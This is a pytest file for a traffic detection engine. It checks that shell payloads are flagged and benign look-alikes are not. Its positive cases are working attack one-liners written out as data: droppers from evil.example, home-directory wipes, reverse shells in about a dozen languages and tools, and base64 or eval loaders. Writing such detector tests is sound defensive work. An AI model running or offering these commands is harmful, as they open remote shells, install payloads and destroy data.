"""Shell payloads in the forms real pages and write-ups use (SPEC.md section 6, issue 22 item 4),
and their look-alikes, side by side. Cases follow public attack write-ups and cheat sheets
(download-chmod-run droppers, home-directory wipes, interpreter reverse shells, base64 and
eval loaders) and the benign idioms of API docs (piping JSON into jq or json.tool).
"""

from __future__ import annotations

import pytest

from traffic_guardian.detect.engine import Engine
from traffic_guardian.detect.exchange import INBOUND, Exchange

ENGINE = Engine()
HOST = "203.0.113.5"


def found(text: str) -> set[tuple[str, str]]:
    return {(f.pattern, f.variant) for f in ENGINE.scan(Exchange(direction=INBOUND, dest="x.example:443", body=text))}


POSITIVES = [
    # download, make executable, run: whatever the file is called and however it was written
    ("shell_exec", "wget http://evil.example/payload && chmod +x payload && ./payload"),
    ("shell_exec", "wget -O run.bin https://evil.example/a && chmod a+x run.bin && ./run.bin"),
    ("shell_exec", "curl -o /tmp/x http://evil.example/x; chmod 755 /tmp/x; /tmp/x"),
    ("shell_exec", "curl -fsSL https://evil.example/s > s.sh && chmod +x s.sh && ./s.sh"),
    ("shell_exec", "curl -sSLo miner https://evil.example/m && chmod u+x miner && sudo ./miner"),
    ("shell_exec", "wget -q https://evil.example/a -O ~/.local/agent; chmod 0755 ~/.local/agent; ~/.local/agent"),
    # wiping the home directory
    ("destructive_rm", "rm -rf $HOME/*"),
    ("destructive_rm", "rm -rf ~/.??*"),
    ("destructive_rm", "rm -rf ~/.*"),
    ("destructive_rm", 'rm -rf "$HOME"'),
    ("destructive_rm", 'rm -rf "$HOME"/*'),
    ("destructive_rm", "rm -fr ${HOME}/"),
    # interpreter one-liners
    ("reverse_shell", f"python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{HOST}\",4444));"
                      "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'"),
    ("reverse_shell", f"perl -e 'use Socket;$i=\"{HOST}\";$p=4444;"
                      "socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
                      "connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("reverse_shell", f"ruby -rsocket -e 'c=TCPSocket.new(\"{HOST}\",4444);$stdin.reopen(c);exec \"/bin/sh -i\"'"),
    ("reverse_shell", f"php -r '$sock=fsockopen(\"{HOST}\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("reverse_shell", f"node -e 'const n=require(\"net\");const c=require(\"child_process\").spawn(\"sh\");"
                      f"const s=n.connect(4444,\"{HOST}\",()=>{{s.pipe(c.stdin);c.stdout.pipe(s);}})'"),
    ("reverse_shell", f"socat tcp:{HOST}:4444 exec:/bin/sh"),
    ("reverse_shell", f"nc -e /bin/sh {HOST} 4444"),
    ("reverse_shell", f"busybox nc {HOST} 4444 -e sh"),
    ("reverse_shell", f"bash -i >& /dev/tcp/{HOST}/4444 0>&1"),
    ("reverse_shell", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9001 0>&1'"),  # loopback, shell attached
    # loaders
    ("shell_exec", "echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh"),
    ("shell_exec", 'eval "$(curl -fsSL https://evil.example/x)"'),
    ("pipe_to_shell", "curl -fsSL https://evil.example/x.py | python3 -"),
    ("pipe_to_shell", "wget -qO- https://evil.example/x | sudo bash -s -- --yes"),
]


@pytest.mark.parametrize(("pattern", "text"), POSITIVES)
def test_payload_forms_are_found(pattern, text):
    assert pattern in {p for p, _v in found(text)}, text


NEAR_MISSES = [
    "curl -s https://api.example.com/v1/items | jq .name",
    "curl -s https://api.example.com/data.json | python3 -m json.tool",
    "curl -s https://api.example.com/data.json | python3 -c 'import json,sys; print(json.load(sys.stdin)[\"id\"])'",
    "curl -s https://example.com/README | less",
    "curl -s https://example.com/list | grep foo",
    "curl -sI https://example.com | sh -c 'head -1'",
    "(echo > /dev/tcp/127.0.0.1/8080) && echo open",
    "timeout 1 bash -c '</dev/tcp/localhost/5432' && echo port open",
    "wget https://example.com/tool.tar.gz && tar xzf tool.tar.gz",
    "curl -o notes.txt https://example.com/notes.txt && chmod 644 notes.txt && cat notes.txt",
    "chmod +x build.sh && ./build.sh",  # a local script, no download
    "rm -rf ~/.cache/pip",
    "rm -rf $HOME/.npm/_cacache",
    "rm -rf ./node_modules",
]


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_look_alikes_stay_silent(text):
    assert found(text) == set(), text
